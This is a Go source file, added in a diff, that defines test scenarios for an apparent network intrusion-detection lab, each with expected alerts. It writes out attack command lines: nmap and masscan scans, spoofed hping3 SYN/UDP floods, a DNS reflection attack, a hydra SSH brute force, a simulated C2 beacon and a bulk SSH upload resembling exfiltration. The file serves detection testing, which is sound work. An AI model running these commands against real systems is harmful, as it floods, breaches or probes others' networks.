@@ -1,0 +1,311 @@
+//go:build linux
+
+package lab
+
+import (
+	"fmt"
+	"path/filepath"
+	"slices"
+	"strings"
+	"time"
+)
+
+// Addresses of the lab (lab.sh). Every scenario uses its own attacker
+// address and/or victim so that the rules' track keys (pair, source,
+// destination) are fresh: a rule that fired stays quiet for its suppress
+// period (up to 1 h) on the same key.
+const (
+	home     = "192.0.2.10" // bwl-lan: sshd, web, DNS
+	home6    = "2001:db8:de::10"
+	frHost   = "192.0.2.140" // bwl-fr: web, sshd
+	cnServer = "198.51.100.80"
+	c2       = "203.0.113.66" // listed (rules/lists/blocklist.txt)
+	c2v6     = "2001:db8:2::66"
+)
+
+var (
+	eu       = []string{"EU"}
+	homeJur  = []string{"home", "EU"}
+	nmapBase = []string{"nmap", "-v", "-n", "-Pn", "-T4", "--max-retries", "1"}
+)
+
+func nmap(args ...string) []string { return append(append([]string{}, nmapBase...), args...) }
+
+// inbound is an expected inbound alert to a home host.
+func inbound(kind string, sid int, src, dst, proto, srcCC string, srcJur ...string) want {
+	return want{kind: kind, sid: sid, src: src, dst: dst, proto: proto, srcCC: srcCC, dstCC: "DE",
+		dir: "inbound", srcJur: srcJur, dstJur: homeJur}
+}
+
+// outbound is an expected outbound alert from a home host.
+func outbound(kind string, sid int, src, dst, proto, dstCC string) want {
+	return want{kind: kind, sid: sid, src: src, dst: dst, proto: proto, srcCC: "DE", dstCC: dstCC,
+		dir: "outbound", srcJur: homeJur}
+}
+
+// nmapSent: nmap's "Raw packets sent", plus (with rst) one RST per open
+// port, which the scanner's own kernel sends in answer to the SYN-ACKs of a
+// half-open scan.
+func nmapSent(cc string, rst bool) *recon {
+	extra := ""
+	if rst {
+		extra = " (nmap's raw packets + 1 kernel RST per open port)"
+	}
+	return &recon{dir: "inbound", extra: extra, sent: func(outs []string, _, _ map[string]uint64) map[string]int64 {
+		n := sumRe(reNmapRaw, outs)
+		if rst {
+			n += countRe(reNmapOpen, outs)
+		}
+		return map[string]int64{cc: n}
+	}}
+}
+
+func hpingSent(cc string) *recon {
+	return &recon{dir: "inbound", sent: func(outs []string, _, _ map[string]uint64) map[string]int64 {
+		return map[string]int64{cc: sumRe(reHping, outs)}
+	}}
+}
+
+// ssh options for the lab's key-based logins.
+func sshArgs(state string, extra ...string) []string {
+	a := []string{"ssh", "-o", "BatchMode=yes", "-o", "StrictHostKeyChecking=no", "-o", "UserKnownHostsFile=/dev/null",
+		"-o", "LogLevel=ERROR", "-i", filepath.Join(state, "ssh", "client_ed25519")}
+	return append(a, extra...)
+}
+
+// hpingFlood is n parallel hping3 runs, one per spoofed source.
+func hpingFlood(ns string, srcs []string, count int, mode []string, dst string) []cmd {
+	var cs []cmd
+	for _, s := range srcs {
+		args := append([]string{"hping3", "-q", "-c", fmt.Sprint(count), "-i", "u1000", "-a", s}, mode...)
+		cs = append(cs, cmd{ns: ns, limit: 20 * time.Second, args: append(args, dst), okExit: []int{1}, mustOut: `packets transmitted`})
+	}
+	return cs
+}
+
+func seqAddrs(prefix string, from, to int) []string {
+	var a []string
+	for i := from; i <= to; i++ {
+		a = append(a, fmt.Sprintf("%s%d", prefix, i))
+	}
+	return a
+}
+
+// reflectors: 4 addresses in each of three reflector namespaces (CN, RU, FR).
+var reflectors = map[string][]string{
+	"CN": seqAddrs("198.51.100.", 53, 56),
+	"RU": seqAddrs("203.0.113.", 53, 56),
+	"FR": seqAddrs("192.0.2.", 153, 156),
+}
+
+func scenarios(state string) []scenario {
+	var (
+		query  = filepath.Join(state, "query.bin")
+		pwList = filepath.Join(state, "passwords.txt")
+		upload = filepath.Join(state, "upload.bin")
+	)
+	// DNS reflection: the RU attacker spoofs the victim (192.0.2.22) and
+	// sends 300 TXT queries to each of the 12 reflector addresses; the
+	// ~1 KB answers converge on the victim through the gateway.
+	var reflect []cmd
+	for _, cc := range []string{"CN", "RU", "FR"} {
+		for _, r := range reflectors[cc] {
+			reflect = append(reflect, cmd{ns: "bwl-ru", limit: 20 * time.Second, okExit: []int{1}, mustOut: `packets transmitted`,
+				args: []string{"hping3", "-q", "-2", "-p", "53", "-s", "40000", "-k", "-a", "192.0.2.22", "-E", query, "-d", "41",
+					"-c", "300", "-i", "u2000", r}})
+		}
+	}
+	curl := func(ns, url string) cmd {
+		return cmd{ns: ns, limit: 20 * time.Second, args: []string{"curl", "-sSf", "-o", "/dev/null", "-w", "%{http_code} %{size_download}\n", url}, mustOut: `^200 `}
+	}
+	dig := func(ns, server, name, typ, must string) cmd {
+		return cmd{ns: ns, limit: 10 * time.Second, args: []string{"dig", "+short", "+tries=1", "+time=3", "@" + server, name, typ}, mustOut: must}
+	}
+	ping := func(ns string, args ...string) cmd {
+		return cmd{ns: ns, limit: 10 * time.Second, args: append([]string{"ping", "-c", "3", "-i", "0.2", "-W", "2"}, args...), mustOut: ` 0% packet loss`}
+	}
+
+	return []scenario{
+		// ------------------------------------------------------------ attacks
+		{
+			name:  "nmap-syn-scan-cn",
+			steps: [][]cmd{{{ns: "bwl-cn", limit: 30 * time.Second, args: nmap("-sS", "-p", "1-100", "-S", "198.51.100.11", "-e", "eth0", "192.0.2.11"), mustOut: `Raw packets sent`}}},
+			want:  []want{inbound("scan", 8100101, "198.51.100.11", "192.0.2.11", "TCP", "CN", "BRICS")},
+			recon: nmapSent("CN", true),
+		},
+		{
+			name:  "nmap-syn-scan-cn-ipv6",
+			steps: [][]cmd{{{ns: "bwl-cn", limit: 30 * time.Second, args: nmap("-6", "-sS", "-p", "1-100", "-S", "2001:db8:1::10", "-e", "eth0", "2001:db8:de::11"), mustOut: `Raw packets sent`}}},
+			want:  []want{inbound("scan", 8100101, "2001:db8:1::10", "2001:db8:de::11", "TCP", "CN", "BRICS")},
+			recon: nmapSent("CN", true),
+		},
+		{
+			// A connect scan goes through the scanner's kernel: its IP
+			// output counter is what it sent.
+			name:   "nmap-connect-scan-ru",
+			steps:  [][]cmd{{{ns: "bwl-ru", limit: 30 * time.Second, args: nmap("-sT", "-p", "1-100", "192.0.2.12"), mustOut: `Nmap done`}}},
+			want:   []want{inbound("scan", 8100101, "203.0.113.10", "192.0.2.12", "TCP", "RU", "BRICS", "CIS")},
+			nstats: []string{"bwl-ru:IpOutRequests"},
+			recon: &recon{dir: "inbound", extra: " (the scanner's IpOutRequests)", sent: func(_ []string, b, a map[string]uint64) map[string]int64 {
+				return map[string]int64{"RU": int64(a["bwl-ru:IpOutRequests"] - b["bwl-ru:IpOutRequests"])}
+			}},
+		},
+		{
+			name:  "nmap-fin-scan-fr",
+			steps: [][]cmd{{{ns: "bwl-fr", limit: 30 * time.Second, args: nmap("-sF", "-p", "1-100", "-S", "192.0.2.141", "-e", "eth0", "192.0.2.13"), mustOut: `Raw packets sent`}}},
+			want:  []want{inbound("scan", 8100101, "192.0.2.141", "192.0.2.13", "TCP", "FR", eu...)},
+			recon: nmapSent("FR", false),
+		},
+		{
+			name:  "nmap-null-scan-ru-ipv6",
+			steps: [][]cmd{{{ns: "bwl-ru", limit: 30 * time.Second, args: nmap("-6", "-sN", "-p", "1-100", "-S", "2001:db8:2::10", "-e", "eth0", "2001:db8:de::13"), mustOut: `Raw packets sent`}}},
+			want:  []want{inbound("scan", 8100101, "2001:db8:2::10", "2001:db8:de::13", "TCP", "RU")},
+			recon: nmapSent("RU", false),
+		},
+		{
+			name:  "nmap-xmas-scan-cn",
+			steps: [][]cmd{{{ns: "bwl-cn", limit: 30 * time.Second, args: nmap("-sX", "-p", "1-100", "-S", "198.51.100.12", "-e", "eth0", "192.0.2.14"), mustOut: `Raw packets sent`}}},
+			want:  []want{inbound("scan", 8100101, "198.51.100.12", "192.0.2.14", "TCP", "CN")},
+			recon: nmapSent("CN", false),
+		},
+		{
+			name:  "nmap-udp-scan-ru",
+			steps: [][]cmd{{{ns: "bwl-ru", limit: 40 * time.Second, args: nmap("-sU", "-p", "1-60", "--host-timeout", "30s", "-S", "203.0.113.11", "-e", "eth0", "192.0.2.15"), mustOut: `Raw packets sent`}}},
+			want:  []want{inbound("scan", 8100102, "203.0.113.11", "192.0.2.15", "UDP", "RU")},
+			recon: nmapSent("RU", false),
+		},
+		{
+			// masscan: 200 SYNs at 400 packets/s from an address of its
+			// own (the scanner's kernel stays out), and masscan resets
+			// every probe that was answered (all are: RST or SYN-ACK), so
+			// 400 packets; tcpdump on the gateway's bridge port agrees.
+			name: "masscan-cn",
+			steps: [][]cmd{{{ns: "bwl-cn", limit: 30 * time.Second, args: []string{"masscan", "192.0.2.16", "-p1-200", "--rate", "400",
+				"--adapter", "eth0", "--adapter-ip", "198.51.100.20", "--router-ip", "198.51.100.1", "--wait", "1"}, mustOut: `Discovered open port 22/tcp`}}},
+			want: []want{inbound("scan", 8100101, "198.51.100.20", "192.0.2.16", "TCP", "CN")},
+			recon: &recon{dir: "inbound", extra: " (masscan: 200 SYNs + 200 RSTs)", sent: func(_ []string, _, _ map[string]uint64) map[string]int64 {
+				return map[string]int64{"CN": 400}
+			}},
+		},
+		{
+			name:  "nmap-ping-sweep-fr",
+			steps: [][]cmd{{{ns: "bwl-fr", limit: 40 * time.Second, args: []string{"nmap", "-v", "-n", "-sn", "-PE", "-T4", "--max-retries", "1", "-S", "192.0.2.142", "-e", "eth0", "192.0.2.0/27"}, mustOut: `Raw packets sent`}}},
+			want:  []want{inbound("sweep", 8100202, "192.0.2.142", "192.0.2.0/27", "ICMP", "FR", eu...)},
+			recon: nmapSent("FR", false),
+		},
+		{
+			// Five hping3 runs, each from its own spoofed RU address.
+			name:  "hping3-syn-flood-spoofed-ru",
+			steps: [][]cmd{hpingFlood("bwl-ru", seqAddrs("203.0.113.", 100, 104), 1000, []string{"-S", "-p", "80"}, "192.0.2.20")},
+			want:  []want{inbound("flood", 1090302, strings.Join(seqAddrs("203.0.113.", 100, 104), " "), "192.0.2.20", "TCP", "RU")},
+			recon: hpingSent("RU"),
+		},
+		{
+			name:  "hping3-udp-flood-spoofed-ru",
+			steps: [][]cmd{hpingFlood("bwl-ru", seqAddrs("203.0.113.", 110, 119), 300, []string{"-2", "-p", "123", "-d", "64"}, "192.0.2.21")},
+			want:  []want{inbound("flood", 1090301, "203.0.113.96/27", "192.0.2.21", "UDP", "RU")},
+			recon: hpingSent("RU"),
+		},
+		{
+			// 24 parallel tasks: hydra (libssh) tries several passwords per
+			// connection, and 25 guesses over 24 connections cross the
+			// default rule's 20 connections.
+			name: "hydra-ssh-bruteforce-cn",
+			steps: [][]cmd{{{ns: "bwl-cn", limit: 60 * time.Second, args: []string{"hydra", "-l", "bwlab", "-P", pwList, "-t", "24", "-f", "-I", "ssh://" + home},
+				mustOut: `1 valid password found`}}},
+			want: []want{func() want {
+				w := inbound("bruteforce", 8100401, "198.51.100.10", home, "TCP", "CN")
+				w.dstPort = 22
+				return w
+			}()},
+		},
+		{
+			name:  "dns-reflection-on-home",
+			steps: [][]cmd{reflect},
+			want: []want{{kind: "amplification", sid: 8100501, src: strings.Join(slices.Concat(reflectors["CN"], reflectors["RU"], reflectors["FR"]), " "),
+				dst: "192.0.2.22", proto: "UDP", srcCC: "CN|RU|FR", dstCC: "DE", dir: "inbound", dstJur: homeJur}},
+			nstats: []string{"bwl-rcn:UdpOutDatagrams", "bwl-rru:UdpOutDatagrams", "bwl-rfr:UdpOutDatagrams"},
+			recon: &recon{dir: "inbound", extra: " (the reflectors' UdpOutDatagrams: DNS answers)", sent: func(_ []string, b, a map[string]uint64) map[string]int64 {
+				d := func(k string) int64 { return int64(a[k] - b[k]) }
+				return map[string]int64{"CN": d("bwl-rcn:UdpOutDatagrams"), "RU": d("bwl-rru:UdpOutDatagrams"), "FR": d("bwl-rfr:UdpOutDatagrams")}
+			}},
+		},
+		{
+			// A home host calls its command-and-control server on a listed
+			// address: the request is outbound to a listed address, the
+			// answer inbound from one.
+			name:  "listed-c2-beacon",
+			steps: [][]cmd{{curl("bwl-lan", "http://"+c2+"/index.html")}},
+			want: []want{
+				outbound("reputation", 8100602, home, c2, "TCP", "RU"),
+				inbound("reputation", 8100601, c2, home, "TCP", "RU"),
+			},
+		},
+		{
+			name:  "listed-ipv6-ping",
+			steps: [][]cmd{{ping("bwl-ru", "-6", "-I", c2v6, home6)}},
+			want: []want{
+				inbound("reputation", 8100601, c2v6, home6, "IPv6-ICMP", "RU"),
+				outbound("reputation", 8100602, home6, c2v6, "IPv6-ICMP", "RU"),
+			},
+		},
+		{
+			name:  "outbound-scan-de-to-cn",
+			steps: [][]cmd{{{ns: "bwl-lan", limit: 30 * time.Second, args: nmap("-sS", "-p", "1-100", "-S", "192.0.2.30", "-e", "eth0", cnServer), mustOut: `Raw packets sent`}}},
+			want:  []want{outbound("scan", 8100103, "192.0.2.30", cnServer, "TCP", "CN")},
+			recon: func() *recon { r := nmapSent("CN", true); r.dir = "outbound"; return r }(),
+		},
+		{
+			// 24 MB over SSH to CN (outside the EU) crosses the lab volume
+			// rule's 4 MB.
+			name: "bulk-upload-de-to-cn",
+			steps: [][]cmd{{{ns: "bwl-lan", limit: 60 * time.Second, stdin: upload,
+				args: sshArgs(state, "-b", "192.0.2.31", "bwlab@"+cnServer, "cat >/dev/null && echo uploaded"), mustOut: `uploaded`}}},
+			want: []want{outbound("volume", 1090801, "192.0.2.31", cnServer, "TCP", "CN")},
+		},
+
+		// ------------------------------------------------------------ benign
+		{
+			name: "benign-web",
+			steps: [][]cmd{{
+				curl("bwl-lan", "http://"+frHost+"/index.html"), curl("bwl-lan", "http://"+frHost+"/file3.txt"),
+				curl("bwl-lan", "http://[2001:db8:f::10]/file1.txt"), curl("bwl-fr", "http://"+home+"/index.html"),
+				curl("bwl-cn", "http://"+home+"/file2.txt"), curl("bwl-ru", "http://["+home6+"]/index.html"),
+			}},
+		},
+		{
+			name: "benign-dns",
+			steps: [][]cmd{{
+				dig("bwl-lan", "198.51.100.53", "www.refl.lab", "A", `192\.0\.2\.140`),
+				dig("bwl-lan", "2001:db8:2::53", "www.refl.lab", "A", `192\.0\.2\.140`),
+				dig("bwl-fr", home, "www.home.lab", "AAAA", `2001:db8:de::10`),
+				dig("bwl-cn", home6, "www.home.lab", "A", `192\.0\.2\.10`),
+				dig("bwl-ru", home, "home.lab", "TXT", `borderwatch lab home`),
+			}},
+		},
+		{
+			name: "benign-ssh-login",
+			steps: [][]cmd{{
+				{ns: "bwl-fr", limit: 20 * time.Second, args: sshArgs(state, "bwlab@"+home, "echo logged-in"), mustOut: `logged-in`},
+				{ns: "bwl-lan", limit: 20 * time.Second, args: sshArgs(state, "bwlab@"+cnServer, "echo logged-in"), mustOut: `logged-in`},
+			}},
+		},
+		{
+			name: "benign-ping",
+			steps: [][]cmd{{
+				ping("bwl-cn", home), ping("bwl-lan", frHost), ping("bwl-ru", "-6", home6), ping("bwl-lan", "-6", "2001:db8:1::80"),
+			}},
+		},
+		{
+			name:  "benign-large-download",
+			steps: [][]cmd{{curl("bwl-lan", "http://"+cnServer+"/big.bin"), curl("bwl-lan", "http://["+"2001:db8:f::10"+"]/big.bin")}},
+		},
+		{
+			// The same 24 MB to FR: inside the EU, like home, so the lab
+			// volume rule (to "!EU") stays silent.
+			name: "benign-upload-within-eu",
+			steps: [][]cmd{{{ns: "bwl-lan", limit: 60 * time.Second, stdin: upload,
+				args: sshArgs(state, "-b", "192.0.2.32", "bwlab@"+frHost, "cat >/dev/null && echo uploaded"), mustOut: `uploaded`}}},
+		},
+	}
+}
